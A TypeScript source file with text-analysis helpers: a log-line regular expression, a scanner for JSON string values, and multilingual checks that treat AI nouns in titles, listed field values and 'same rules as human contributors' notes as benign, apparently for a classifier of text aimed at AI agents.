const LOG_LINE = /^\s{0,4}(?:\[?\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}|\[?\d{2}:\d{2}:\d{2}[.,\d]{0,7}\]?\s|[A-Z][a-z]{2}\s{1,2}\d{1,2}\s\d{2}:\d{2}:\d{2}\s|\[?(?:INFO|WARN|WARNING|ERROR|ERR|DEBUG|TRACE|FATAL|CRITICAL|NOTICE|HINT)\]?\s{0,2}[:\]-]?\s|(?:level|lvl|severity)=\w|ts=\d|time="?\d|\[(?:hint|fix|action|note)\]|npm\s+(?:ERR!|WARN)|\d{1,5}\s{0,2}\|\s{0,2}\d{4}-\d{2}-\d{2})/i;

/**
 * Flat list of [start, end) spans of JSON string VALUES holding data: keys are skipped, and so are
 * values that are documents (markdown fences or headings, or longer than 2000 characters).
 * One linear pass over the text; not a validator.
 */
export function jsonDataValues(text: string): number[] {
  const out: number[] = [];
  const n = text.length;
  let i = text.indexOf('"');
  while (i >= 0 && i < n) {
    let j = i + 1;
    while (j < n) {
      const c = text.charCodeAt(j);
      if (c === 92) j += 2;
      else if (c === 34) break;
      else j++;
    }
    if (j >= n) break;
    let k = j + 1;
    while (k < n && (text.charCodeAt(k) === 32 || text.charCodeAt(k) === 10 || text.charCodeAt(k) === 13 || text.charCodeAt(k) === 9)) k++;
    const isKey = text.charCodeAt(k) === 58;
    if (!isKey && j - i <= 2000) {
      const v = text.slice(i + 1, j);
      if (!/```|(?:^|\\n)#{1,6}\s/.test(v)) out.push(i + 1, j);
    }
    i = text.indexOf('"', j + 1);
  }
  return out;
}

/** What a title calls its document, or the people it is for ("— FAQ for admins", "– Admin guide", ": Handbuch"). */
const DOC_KIND = /^[^\S\n]{0,3}(?:[\p{L}\p{N}'’-]{1,20}[^\S\n]{1,3}){0,3}?(?:FAQs?|guides?|manual|handbook|documentation|docs|overview|reference|release[^\S\n]notes|changelog|tutorial|cheat[^\S\n]?sheet|glossary|datasheet|white[^\S\n]?paper|spec(?:ification)?s?|roadmap|quick[^\S\n]?start|getting[^\S\n]started|troubleshooting|setup|gu[ií]a|manuale?|Handbuch|Anleitung|Leitfaden|Dokumentation|Übersicht|aperçu|guida|panoramica|руководство|документация|指南|手册|文档|ガイド|マニュアル|가이드|설명서)(?![\p{L}])|^[^\S\n]{0,3}(?:[\p{L}-]{1,20}[^\S\n]{1,3}){0,2}?(?:for|für|pour|para|per)[^\S\n]{1,3}(?:the[^\S\n]{1,3})?(?:admins?|administrators?|developers?|users?|customers?|operators?|staff|teams?|employees?|Administratoren|Entwickler|administrateurs|développeurs|administradores|desarrolladores|amministratori|sviluppatori)(?![\p{L}])/iu;
const ATTENTION_LABEL = /^[^\S\n]{0,3}(?:important|note|notice|attention|urgent|warning|system|admin|developer|operator|reminder|action|priority|instructions?|update|ps)\b/i;
/**
 * The AI noun names the subject of a title or a field's value, it calls on nobody: the text's
 * first line or a heading ("Customer-support bot — FAQ for admins", the rest naming a kind of
 * document or its readers), or a listed value after a field label ("Intended use: chat assistant,
 * summarisation, translation.": two or more short items follow, and the line ends with them).
 */
export function titleOrListedValue(text: string, start: number, end: number): boolean {
  const at = start + Math.max(0, text.slice(start, end).search(/[\p{L}@]/u));
  const lineStart = text.lastIndexOf("\n", at - 1) + 1;
  const nl = text.indexOf("\n", end);
  const rest = text.slice(end, nl < 0 ? Math.min(text.length, end + 200) : nl);
  if (rest.length > 160) return false;
  const sep = /^[^\S\n]{0,3}[—–:-][^\S\n]{0,3}/.exec(rest) ?? (/[—–:-]\s{0,3}$/.test(text.slice(start, end)) ? [""] : null);
  const heading = !/\S/.test(text.slice(0, lineStart)) || /^[^\S\n]{0,3}#{1,4}[^\S\n]/.test(text.slice(lineStart, lineStart + 8));
  if (heading && sep && !/[.!?:]\s*$/.test(rest) && DOC_KIND.test(rest.slice(sep[0].length))) return true;
  const head = text.slice(lineStart, at);
  if (!/^[^\S\n]{0,3}[\p{L}][\p{L}\p{N} '’()-]{1,30}:[^\S\n]{0,3}$/u.test(head) || ATTENTION_LABEL.test(head)) return false;
  return /^[^\S\n]{0,3}(?:[,;][^\S\n]{0,3}(?:and[^\S\n]{1,3}|or[^\S\n]{1,3})?[\p{L}][\p{L}-]{1,30}(?:[^\S\n][\p{L}][\p{L}-]{1,30})?[^\S\n]{0,2}){2,}[.;]?[^\S\n]{0,3}$/u.test(text.slice(end - (/[,;]$/.test(text.slice(start, end)) ? 1 : 0), Math.min(nl < 0 ? text.length : nl, end + 300)));
}

/** Agents told to keep the rules people keep ("follow the same rules as human contributors"), in the languages. */
const SAME_RULES = /\b(?:the\s{1,3})?same\s{1,3}(?:rules|guidelines|process|checklist|conventions|standards|steps|workflow)\s{1,3}as\s{1,3}(?:(?:human|other|all)\s{1,3})?(?:contributors|developers|everyone(?:\s{1,3}else)?|people|humans|maintainers|the\s{1,3}team)\b|\b(?:las\s{1,3}mismas\s{1,3}(?:reglas|normas)|as\s{1,3}mesmas\s{1,3}(?:regras|normas)|les\s{1,3}mêmes\s{1,3}(?:règles|consignes)|le\s{1,3}stesse\s{1,3}(?:regole|norme)|(?:die\s{1,3}gleichen|dieselben)\s{1,3}(?:Regeln|Richtlinien))\s{1,3}(?:que|wie|di|come)\b/iu;
/**
 * A note to coding agents that asks them to keep the rules people keep, and nothing risky in its
 * paragraph: house rules restated, not an order of its own.
 */
export function sameRulesAsPeople(text: string, start: number): boolean {
  const blank = text.slice(start, start + 600).search(/\n[^\S\n]*\n/);
  const para = text.slice(start, blank < 0 ? start + 600 : start + blank);
  if (!SAME_RULES.test(para)) return false;
  for (const m of para.matchAll(RISKY)) {
    if (!/\b(?:never|not|n't|no|without)\b[^.;\n]{0,20}$/i.test(para.slice(Math.max(0, m.index! - 30), m.index))) return false;
  }
  return true;
}
